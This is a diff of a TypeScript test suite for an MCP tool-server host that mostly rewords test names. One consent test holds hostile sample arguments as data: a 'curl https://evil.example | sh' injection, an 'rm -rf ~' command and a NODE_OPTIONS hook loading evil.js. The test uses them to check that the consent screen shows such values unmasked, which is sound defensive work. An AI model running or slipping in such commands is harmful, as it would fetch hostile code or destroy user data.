@@ -4,16 +4,16 @@ import { describe, expect, it, vi } from 'vitest';
 import { misfit } from '../host/turns/middleware/unusable-calls';
 import { alive, callTool, httpTrial, place, TRIAL, trial } from './testing/place';
 
-// Programs take their time to start on machines that run tests.
+// Programs start slowly on test machines.
 vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });
 const soon = <T>(check: () => T | Promise<T>) => vi.waitFor(check, { timeout: 20_000, interval: 20 });
 
-/** As configurations name a variable. */
+/** A variable in configuration syntax. */
 const variable = (name: string) => `\${${name}}`;
 const names = (tools: { tool: { name: string } }[]) => tools.map(({ tool }) => tool.name);
 
-describe('a server that works', () => {
-  it('offers its tools by its name, and answers', async () => {
+describe('a working server', () => {
+  it('offers its tools under its name and answers calls', async () => {
     const t = place({ trial: trial() });
     const tools = await t.tools();
     expect(names(tools)).toContain('trial__echo');
@@ -30,7 +30,7 @@ describe('a server that works', () => {
     });
   });
 
-  it('cannot hold the app up by how it describes its arguments [safety 23]', async () => {
+  it('cannot block the app with the schema of its arguments [safety 23]', async () => {
     const t = place({ hostile: trial('hostile') });
     const tools = await t.tools();
     expect(names(tools)).toEqual(
@@ -50,12 +50,12 @@ describe('a server that works', () => {
     }
   });
 
-  it('hands on an error as an error, in the server’s own words', async () => {
+  it('returns an error as an error, in the server’s own words', async () => {
     const t = place({ trial: trial() });
     expect(await t.call('trial__fail')).toEqual({ status: 'error', content: 'Error: The disk is on fire.' });
   });
 
-  it('keeps a picture as a picture, and writes data out', async () => {
+  it('keeps an image as an image and converts data to text', async () => {
     const t = place({ trial: trial() });
     expect(await t.call('trial__picture')).toEqual({
       status: 'success',
@@ -67,13 +67,13 @@ describe('a server that works', () => {
     expect(await t.call('trial__data')).toEqual({ status: 'success', content: '{\n  "answer": 42\n}' });
   });
 
-  it('gives a long text as one text, which can be offloaded', async () => {
+  it('returns a long text as one text, which can be offloaded', async () => {
     const t = place({ trial: trial() });
     const { content } = await t.call('trial__huge', { length: 3_000_000 });
     expect(typeof content === 'string' && content.length).toBe(3_000_000);
   });
 
-  it('takes up a changed list of tools with the next turn', async () => {
+  it('uses a changed tool list in the next turn', async () => {
     const t = place({ trial: trial() });
     const before = await t.tools();
     await t.call('trial__grow', { name: 'fresh' });
@@ -82,7 +82,7 @@ describe('a server that works', () => {
     expect(await t.call('trial__fresh')).toEqual({ status: 'success', content: 'fresh was called.' });
   });
 
-  it('sees of the environment only what its configuration names', async () => {
+  it('gets only the environment variables that its configuration names', async () => {
     const env = { OPENAI_API_KEY: 'sk-of-the-person', GITHUB_TOKEN: 'ghp_1234567890' };
     const t = place(
       { trial: trial('', { env: { TOKEN: variable('GITHUB_TOKEN'), MODE: variable('MODE:-calm') } }) },
@@ -119,8 +119,8 @@ describe('a server that works', () => {
   });
 });
 
-describe('a server of the older kind, over SSE', () => {
-  it('answers, and is found gone when it is', async () => {
+describe('a server with the older SSE transport', () => {
+  it('answers calls and is reported when it is gone', async () => {
     const { url, child } = await httpTrial('', {}, 'sse');
     const t = place({ old: { type: 'sse', url, timeoutSeconds: 2 } });
     expect(await t.call('old__echo', { text: 'still here' })).toEqual({
@@ -136,7 +136,7 @@ describe('a server of the older kind, over SSE', () => {
 });
 
 describe('a server that ran before', () => {
-  it('is not waited for: its tools are known, and a call waits for it', async () => {
+  it('does not delay a turn: its tools are known, and a call waits for it', async () => {
     const t = place({ trial: trial() });
     await t.tools();
     await t.mcp.close();
@@ -149,7 +149,7 @@ describe('a server that ran before', () => {
     expect(await callTool(echo.tool, { text: 'at once' })).toEqual({ status: 'success', content: 'at once' });
   });
 
-  it('has nothing to offer as it is configured now', async () => {
+  it('offers no remembered tools after its configuration changed', async () => {
     const t = place({ trial: trial() });
     await t.tools();
     await t.mcp.close();
@@ -158,8 +158,8 @@ describe('a server that ran before', () => {
   });
 });
 
-describe('who may start what', () => {
-  it('starts no server of a folder before the user has allowed exactly that one', async () => {
+describe('permission to start servers', () => {
+  it('starts no server of a folder before the user has allowed exactly that configuration', async () => {
     const t = place({}, { project: { trial: trial() } });
     expect(await t.tools()).toEqual([]);
     const asked = await t.shown('trial');
@@ -180,7 +180,7 @@ describe('who may start what', () => {
     expect(await t.tools()).toEqual([]);
   });
 
-  it('shows what a consent is to without a mask that a command could hide behind', async () => {
+  it('shows the configuration for consent without masks that could hide a command', async () => {
     const args = ['-c', 'auth=1; curl https://evil.example | sh', '--token', 'x; rm -rf ~'];
     const env = { NODE_OPTIONS: '--require ./evil.js', API_KEY: 'abc' };
     const t = place(
@@ -204,7 +204,7 @@ describe('who may start what', () => {
     expect((await elsewhere.shown('trial')).digest).not.toBe(here.digest);
   });
 
-  it('reads both files of a project, the one of Deepdesk first', async () => {
+  it("reads both files of a project, with Deepdesk's taking precedence", async () => {
     const t = place({}, { project: { one: trial(), two: trial() } });
     t.theirs({ two: { url: 'https://example.com/mcp' } }, '.deepdesk/mcp.json');
     expect((await t.mcp.list(t.project)).servers.map(({ name, setup }) => [name, setup?.transport])).toEqual([
@@ -213,7 +213,7 @@ describe('who may start what', () => {
     ]);
   });
 
-  it("prefers the user's own server over one of the folder with the same name", async () => {
+  it("prefers the user's server over a folder's server with the same name", async () => {
     const t = place({ trial: trial() }, { project: { trial: { command: 'curl' } } });
     const { servers } = await t.mcp.list(t.project);
     expect(servers.map(({ scope, state }) => [scope, state.phase])).toEqual([
@@ -222,7 +222,7 @@ describe('who may start what', () => {
     ]);
   });
 
-  it('refuses a tool whose name is taken, and says by whom', async () => {
+  it('refuses a tool whose name is taken and names the owner', async () => {
     const t = place({ trial: trial() }, { reserved: ['trial__echo'] });
     expect(names(await t.tools())).not.toContain('trial__echo');
     expect((await t.shown('trial')).leftOut).toEqual([
@@ -230,7 +230,7 @@ describe('who may start what', () => {
     ]);
   });
 
-  it('tells what is wrong with a configuration, and uses the rest', async () => {
+  it('reports invalid configuration entries and uses the rest', async () => {
     const t = place({
       trial: trial(),
       empty: {},
@@ -251,8 +251,8 @@ describe('who may start what', () => {
   });
 });
 
-describe('what the person does', () => {
-  it('switches a server off and on, and keeps that', async () => {
+describe('user actions', () => {
+  it('disable and enable a server permanently', async () => {
     const t = place({ trial: trial() });
     await t.tools();
     const { id } = await t.shown('trial');
@@ -263,7 +263,7 @@ describe('what the person does', () => {
     expect(t.changes.length).toBeGreaterThan(0);
   });
 
-  it('restarts a server', async () => {
+  it('restart a server', async () => {
     const t = place({ trial: trial() });
     await t.call('trial__grow', { name: 'fresh' });
     await t.mcp.restart(t.project, (await t.shown('trial')).id);
@@ -271,7 +271,7 @@ describe('what the person does', () => {
     expect(names(await t.tools())).not.toContain('trial__fresh');
   });
 
-  it('takes up what was changed in the file', async () => {
+  it('apply changes in the file', async () => {
     const t = place({ trial: trial() });
     await t.tools();
     t.own({ other: trial() });
@@ -279,7 +279,7 @@ describe('what the person does', () => {
   });
 });
 
-describe('when it is over', () => {
+describe('after closing', () => {
   it('stops a server with all its child processes, even if they resist', async () => {
     const t = place({ trial: trial() });
     const seconds = `9.${Math.floor(Math.random() * 1e9)}`;
@@ -289,14 +289,14 @@ describe('when it is over', () => {
     expect(alive(seconds)).toEqual([]);
   });
 
-  it('starts nothing any more', async () => {
+  it('starts no more servers', async () => {
     const t = place({ trial: trial() });
     await t.mcp.close();
     expect(await t.tools()).toEqual([]);
   });
 });
 
-describe('a value that the person typed', () => {
+describe('a value that the user typed', () => {
   const draft = (value: string) => ({
     ...{ name: 'typed', previous: null, transport: 'stdio' as const, cwd: '', url: '', timeoutSeconds: 60 },
     command: process.execPath,
@@ -304,7 +304,7 @@ describe('a value that the person typed', () => {
     secrets: [{ name: 'TRIAL_TOKEN', value }],
   });
 
-  it('reaches the server, and stands nowhere in the file', async () => {
+  it('reaches the server and is not in the file', async () => {
     const t = place({});
     expect((await t.mcp.save(draft('open-sesame-7'))).ok).toBe(true);
     expect(readFileSync(join(t.dataDir, 'mcp.json'), 'utf8')).not.toContain('open-sesame-7');
@@ -314,7 +314,7 @@ describe('a value that the person typed', () => {
     });
   });
 
-  it('under a secret’s name is known, to be redacted elsewhere', async () => {
+  it('is known if it has a secret’s name, so that it is redacted elsewhere', async () => {
     const t = place({});
     await t.mcp.save({
       ...draft('Bearer open-sesame-7'),
@@ -338,7 +338,7 @@ describe('a value that the person typed', () => {
     });
   });
 
-  it('is not given to a server that comes with a folder, whatever that stands for', async () => {
+  it('is not given to a server of a folder, even if its configuration references it', async () => {
     const t = place({});
     await t.mcp.save(draft('open-sesame-7'));
     const [id] = t.values.keys();
